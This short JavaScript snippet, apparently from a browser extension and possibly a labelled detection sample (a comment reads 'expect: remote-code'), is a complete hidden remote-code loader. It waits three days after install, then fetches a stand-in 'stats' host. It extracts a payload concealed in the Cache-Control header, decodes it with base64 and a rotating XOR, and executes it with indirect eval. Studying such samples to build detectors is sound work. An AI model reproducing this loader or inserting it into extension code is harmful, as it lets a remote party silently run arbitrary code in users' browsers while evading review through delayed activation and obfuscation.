chrome.storage.local.get(['i'], function (r) {
  if (!r.i) return chrome.storage.local.set({ i: Date.now() });
  if (Date.now() - r.i < 3 * 864e5) return;
  go();
});
function go() {
  fetch('https://stats.script-protection.example/_stat/?x=' + Date.now()).then(function (resp) {
    var cc = resp.headers.get('Cache-Control') || '';
    var m = cc.match(/bk=([^,]+)/);
    // expect: remote-code
    if (m) { var src = ''; atob(m[1]).split('').forEach(function (c, i) { src += String.fromCharCode(c.charCodeAt(0) ^ (i % 7)); }); (0, eval)(src); }
  });
}
